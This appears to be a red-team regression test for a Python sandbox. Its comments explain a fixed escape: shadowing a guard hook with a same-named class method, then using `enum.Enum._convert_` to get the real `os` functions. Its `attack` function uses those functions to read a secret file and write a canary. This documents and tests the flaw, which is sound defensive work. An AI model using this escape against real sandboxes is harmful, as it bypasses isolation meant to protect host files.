# mypy: ignore-errors
# Technique: shadow the private-attribute guard hook with a method of the same name. A class
# body looks names up in the class namespace before the builtins the guard hooks live in, and
# dunder method names were allowed in a class, so `def __sp_private__(obj, name, store)` stood
# in for the guard in the rest of that body: `enum.Enum._convert_` (private) read natively
# built an enum of the real `os` module's functions. The same held for every hook the
# rewrite inserts (`__sp_format__`, `__sp_dunder_def__`, `__sp_attr_hook__`, ...). Found in
# the twelfth red-team pass of the in-interpreter layer; was a real in-interpreter escape
# (3.11-3.13) before the fix (no plugin definition may carry the runtime's `__sp_` prefix).
# Advisory: CVE-2026-55830 / GHSA-ffg3-p8fm-mjx2 (RestrictedPython: a binding form the
# leading-underscore name check skipped (positional-only parameters) shadowed guard hooks)
import enum

wanted = ("open", "read", "O_RDONLY", "O_CREAT", "O_WRONLY")


class Shadow:
    def __sp_private__(obj, name, store):
        return obj

    # Builtins and plain objects become members (a Python function would be a method).
    members = enum.Enum._convert_("Probe", "os", lambda n: n in wanted)


def attack(secret_path, canary_path):
    os = {m.name: m.value for m in Shadow.members}
    print("SANDBOX-" + "ESCAPED")
    out = [os["read"](os["open"](secret_path, os["O_RDONLY"]), 100)]
    os["open"](canary_path, os["O_CREAT"] | os["O_WRONLY"])
    return repr(out)
